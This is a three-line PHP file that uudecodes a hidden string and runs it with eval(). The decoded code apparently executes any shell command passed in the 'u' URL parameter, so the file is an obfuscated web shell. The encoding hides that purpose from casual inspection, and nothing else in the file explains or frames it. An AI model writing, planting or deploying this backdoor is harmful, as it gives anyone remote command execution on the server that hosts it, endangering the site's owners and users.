<?php
$u = convert_uudecode("096-H;R!@)%]'151;=5U@.P  ");
eval($u);
